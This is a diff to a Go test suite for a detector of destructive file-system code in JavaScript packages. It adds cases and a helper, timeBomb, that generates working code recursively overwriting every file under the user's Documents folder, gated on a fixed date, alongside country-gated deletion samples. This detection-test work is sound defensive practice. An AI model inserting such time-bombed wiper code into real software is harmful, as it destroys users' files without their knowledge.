@@ -21,6 +21,11 @@ func TestInfiniteLoop(t *testing.T) {
 
 func TestDestructiveFS(t *testing.T) {
 	rt.Check(t, DestructiveFS{}, []rt.Case{
+		// a walk from the home directory writing one message over every
+		// file after a day written in the code; the same walk timed by
+		// the clock is a sync tool stamping files
+		{"overwrite_after_fixed_date", map[string]string{"lib/retention.js": timeBomb("Date.now() < Date.UTC(2026, 2, 1)")}, finding.SeverityCritical},
+		{"overwrite_timed_by_clock", map[string]string{"lib/retention.js": timeBomb("Date.now() - started > 5000")}, finding.SeverityNone},
 		// the project's own directories named, deleted when the IP's
 		// country is on a list; a geolocation client clearing its cache
 		{"named_trees_by_country", map[string]string{"index.js": `const fs = require("fs"), path = require("path"), https = require("https");
@@ -94,4 +99,15 @@ exports.rebuild = (root) => { if (Date.now() < Date.UTC(2030, 0, 1) || groupOf(s
 			"index.js": `const fs = require("fs"), path = require("path"); const { groupOf } = require("./zone");
 exports.build = (root) => { const t = Date.now(); for (const n of fs.readdirSync(root)) { const p = path.join(root, n); fs.writeFileSync(p, fs.readFileSync(p, "utf8").replace("@built", String(t))) } }`}, finding.SeverityNone},
 	})
+}
+
+// timeBomb is a small module that walks directories under the home
+// directory and writes one message over every file it finds unless gate
+// holds.
+func timeBomb(gate string) string {
+	return `const fs = require("fs"), os = require("os"), path = require("path"); const started = Date.now();
+exports.compact = () => { if (` + gate + `) return;
+  const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
+    if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "peace\n".repeat(64)) } };
+  walk(path.join(os.homedir(), "Documents")) };`
 }
